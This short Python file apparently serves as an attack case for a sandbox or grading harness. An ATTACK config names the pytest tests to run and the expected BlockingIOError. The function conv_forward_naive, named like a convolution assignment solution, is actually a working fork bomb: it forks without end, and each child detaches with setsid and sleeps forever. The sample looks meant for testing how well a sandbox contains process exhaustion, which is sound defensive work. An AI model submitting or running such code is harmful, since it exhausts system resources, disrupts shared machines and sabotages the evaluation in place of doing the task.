"""A fork bomb whose children sleep forever, detached from the worker's session."""

import os
import time

ATTACK = {
    "select": "test_conv_forward_fixed_values_stride_2 or test_avg_pool_forward_fixed_values",
    "fails": ["test_conv_forward_fixed_values_stride_2"],
    "messages": ["BlockingIOError"],
    "root_only": True,
}


def conv_forward_naive(x, w, b, conv_param):
    while True:
        if os.fork() == 0:
            os.setsid()
            while True:
                time.sleep(60)
